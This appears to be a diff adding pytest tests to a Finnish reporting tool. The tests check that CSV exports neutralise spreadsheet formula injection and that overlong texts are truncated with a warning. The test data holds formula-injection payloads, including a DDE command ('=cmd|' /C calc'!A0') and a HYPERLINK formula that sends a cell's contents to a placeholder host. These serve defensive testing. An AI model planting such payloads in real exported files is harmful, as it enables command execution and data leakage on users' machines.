@@ -520,3 +520,141 @@ def test_a_folder_named_like_the_settings_and_an_empty_period_are_errors(
     result = run_cli("validate")
     assert result.exit_code == 2
     assert "Asetustiedoston kemireport.toml paikalla on kansio" in result.output
+
+
+# -- 2. formulas in the CSV ------------------------------------------------------------------------
+
+HOSTILE_TOTEUMA = ('=HYPERLINK("http://example.invalid/?q="&A1,"Lue lisää")',
+                   "=cmd|' /C calc'!A0", "Tavallinen teksti = ei kaava.", "\t=1+1",
+                   "@SUM(1+1)", "\r=2+2", "+358 40 123", "-20 % päästöistä")
+
+
+def _hostile_csv(strategy: Strategy, path: Path) -> tuple[Path, list[str]]:
+    """The CSV of returns whose Toteuma texts are formula injections, in strategy order."""
+    from builders_report import department_return, validation
+
+    from kemireport.core.findings import Verdict
+    from kemireport.history.consolidate import consolidate
+    from kemireport.outputs.csv_export import write_csv
+    from kemireport.outputs.facts import gather
+
+    ids = [a.id for a in strategy.actions]
+    texts = [HOSTILE_TOTEUMA[i % len(HOSTILE_TOTEUMA)] for i in range(len(ids))]
+    answers = {i: {"Tila": "Toteutunut", "Toteuma": t} for i, t in zip(ids, texts, strict=True)}
+    checked = validation(strategy, PERIOD, [department_return(strategy, d.code, PERIOD,
+                                                              answers=answers)
+                                            for d in strategy.departments])
+    consolidation = consolidate(strategy, checked)
+    facts = gather(strategy, consolidation, Verdict(consolidation.period))
+    order = {r.action_id: r.toteuma for r in facts.records}
+    return write_csv(strategy, facts, path), [str(order[i]) for i in ids]
+
+
+def test_the_csv_opened_in_libreoffice_runs_no_formula(
+        tmp_path: Path, mini_strategy: Strategy) -> None:
+    import shutil
+
+    import openpyxl
+    from office import convert
+
+    if shutil.which("soffice") is None and os.environ.get("CI") != "true":
+        pytest.skip("LibreOffice (soffice) puuttuu")
+    path, stored = _hostile_csv(mini_strategy, tmp_path / "toimenpiteet.csv")
+    # The history (and the Excel report) keep the exact text, the tab included.
+    assert stored == [HOSTILE_TOTEUMA[i % len(HOSTILE_TOTEUMA)] for i in range(len(stored))]
+    # Semicolon, double quote, UTF-8, from line 1, and "evaluate formulas" switched on: how a
+    # spreadsheet opening the file would run whatever looks like a formula.
+    opened = convert(path, tmp_path / "lo", "xlsx",
+                     infilter="CSV:59,34,76,1,,1033,false,false,false,false,false,-1,true")
+    sheet = openpyxl.load_workbook(opened).active
+    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    headers = [c.value for c in sheet[1]]
+    column = headers.index("Toteuma")
+    shown = {row[column].value for row in sheet.iter_rows(min_row=2)}
+    assert '\'=HYPERLINK("http://example.invalid/?q="&A1,"Lue lisää")' in shown
+    assert "'=cmd|' /C calc'!A0" in shown and "'@SUM(1+1)" in shown
+    assert "Tavallinen teksti = ei kaava." in shown
+
+
+def test_the_csv_without_neutralising_would_run_formulas_in_libreoffice(
+        tmp_path: Path) -> None:
+    """The same import settings do run a formula: the test above can fail."""
+    import shutil
+
+    import openpyxl
+    from office import convert
+
+    if shutil.which("soffice") is None and os.environ.get("CI") != "true":
+        pytest.skip("LibreOffice (soffice) puuttuu")
+    raw = tmp_path / "raaka.csv"
+    raw.write_bytes("\ufeffToteuma\r\n=1+1\r\n".encode())
+    opened = convert(raw, tmp_path / "lo", "xlsx",
+                     infilter="CSV:59,34,76,1,,1033,false,false,false,false,false,-1,true")
+    assert openpyxl.load_workbook(opened).active["A2"].data_type == "f"
+
+
+# -- 9. long text --------------------------------------------------------------------------------
+
+
+def _replace_in_package(path: Path, old: str, new: str) -> None:
+    import zipfile
+
+    with zipfile.ZipFile(path) as source:
+        parts = {info: source.read(info) for info in source.infolist()}
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
+        for info, data in parts.items():
+            target.writestr(info, data.replace(old.encode(), new.encode()))
+
+
+def test_a_toteuma_longer_than_a_cell_is_kept_whole_marked_where_cut_and_warned(
+        tmp_path: Path, mini_strategy: Strategy, monkeypatch: pytest.MonkeyPatch) -> None:
+    import csv
+    import io
+    import random
+
+    import docx
+    import openpyxl
+
+    from kemireport.outputs.columns import TRUNCATED
+
+    monkeypatch.chdir(tmp_path)
+    words = ["toimenpide", "edistyi", "kevään", "aikana", "ja", "työpaja", "pidettiin"]
+    chance = random.Random(7)
+    long_text = " ".join(chance.choice(words) + str(chance.randrange(100))
+                         for _ in range(5000)) + " LOPPU"
+    assert len(long_text) > 40_000
+    action = mini_strategy.actions_for("YMP")[0]
+    folder = workfolder(tmp_path, mini_strategy,
+                        answers={"YMP": {action.id: {"Toteuma": "PITKA-TEKSTI"}}})
+    # openpyxl cuts a cell at 32,767 characters; LibreOffice and hand-made files do not.
+    _replace_in_package(next(folder.glob("*Ympäristö*.xlsx")), "PITKA-TEKSTI", long_text)
+
+    result = run_cli("report", "--period", PERIOD)
+    assert result.exit_code == 0, result.output  # a warning, not an error
+    assert "toteuma-too-long" in result.output, result.output
+    checked = run_cli("validate", "--period", PERIOD, "--format", "json")
+    [finding] = [f for f in json.loads(checked.output)["findings"]
+                 if f["code"] == "toteuma-too-long"]
+    assert (finding["severity"], finding["row_id"]) == ("warning", action.id)
+    assert finding["cell"] and finding["cell"].startswith("G")
+    assert f"{len(long_text):,}".replace(",", "\u00a0") in finding["message"]
+
+    with sqlite3.connect(tmp_path / "output" / "kemireport.sqlite") as db:
+        [(stored,)] = db.execute("SELECT toteuma FROM action_reports WHERE action_id = ?",
+                                 (action.id,)).fetchall()
+    assert stored == long_text
+    files = tmp_path / "output" / PERIOD
+    rows = list(csv.DictReader(io.StringIO(
+        (files / f"{PERIOD}_toimenpiteet.csv").read_text(encoding="utf-8-sig"), newline=""),
+        delimiter=";"))
+    assert next(r["Toteuma"] for r in rows if r["Tunniste"] == action.id) == long_text
+    sheet = openpyxl.load_workbook(files / f"{PERIOD}_strategiaseuranta.xlsx")["Toimenpiteet"]
+    headers = [c.value for c in sheet[1]]
+    cut = next(row[headers.index("Toteuma")].value for row in sheet.iter_rows(min_row=2)
+               if row[headers.index("Tunniste")].value == action.id)
+    assert len(cut) <= 32_767 and cut.endswith(TRUNCATED) and long_text.startswith(
+        cut[:-len(TRUNCATED)])
+    document = docx.Document(str(files / f"{PERIOD}_strategiaseuranta.docx"))
+    texts = [cell.text for table in document.tables for row in table.rows for cell in row.cells]
+    assert any(t.endswith(TRUNCATED) and long_text.startswith(t[:100]) for t in texts)
